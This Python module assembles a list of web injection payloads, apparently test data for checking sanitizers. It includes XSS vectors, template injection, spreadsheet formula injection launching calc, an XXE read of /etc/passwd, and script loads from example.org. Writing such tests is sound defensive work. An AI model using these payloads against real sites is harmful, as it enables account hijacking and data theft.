"""Strings that run where a page takes text for markup, script, style or address; each of them calls `pwn`."""

_HANDLERS = ("onerror", "onload", "onfocus autofocus", "ontoggle open", "onbegin", "onanimationstart", "onpointerenter")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input",
    "details",
    "video src=x",
    "audio src=x",
    "iframe",
    "object data=x",
    "marquee",
)
_ENDS = (
    "</script>", "</SCRIPT >", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "-->", "]]>", '">',
    "'>", "`>", "</p></div>", "</svg>", "<!--", "&quot;>", "\\u003e",
)  # fmt: skip
_OTHERS = (
    "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()", "{{pwn()}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "{{constructor.constructor('pwn()')()}}",
    "';pwn();//", '";pwn();//', "\\';pwn();//", "`;pwn();//", "*/pwn();/*", "\u2028pwn();\u2029", "</script><script>pwn()",
    "<script>pwn()</script>", "<scr<script>ipt>pwn()</scr</script>ipt>", "<script src=//example.org/x.js></script>",
    "<style>@import '//example.org/x.css';</style>", "<link rel=stylesheet href=//example.org/x.css>",
    "<base href=//example.org/>", "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form action=javascript:pwn()><button>x", "<a href=javascript:pwn()>x</a>", "<math><mtext><img src=x onerror=pwn()>",
    "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=pwn()>'/>", "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<object data='data:text/html,<script>parent.pwn()</script>'>", "<embed src=javascript:pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>", "&lt;img src=x onerror=pwn()&gt;",
    "&#60;img src=x onerror=pwn()&#62;", "\\x3cimg src=x onerror=pwn()\\x3e", "\u00adimg", "<img/src=x/onerror=pwn()>",
    "<img src=x onerror\x0c=pwn()>", "<\x00img src=x onerror=pwn()>", "\ufeff<script>pwn()</script>",
    "\u202e<script>pwn()</script>", "<template><script>pwn()</script></template>", "<xmp><img src=x onerror=pwn()>",
    '" onmouseover="pwn()" x="', "' onfocus='pwn()' autofocus '", "x\" style=\"background:url(javascript:pwn())",
    "expression(pwn())", "url(javascript:pwn())", "@import url(//example.org)", "__proto__", "constructor", "toString",
    "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"//example.org\";\"x\")", "\t=1+1",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<![CDATA[<script>pwn()</script>]]>",
)  # fmt: skip

HOSTILE = tuple(
    dict.fromkeys(
        (
            *_OTHERS,
            *(f"<{tag} {handler}=pwn()>" for tag in _TAGS for handler in _HANDLERS),
            *(f"{end}<img src=x onerror=pwn()>" for end in _ENDS),
        )
    )
)
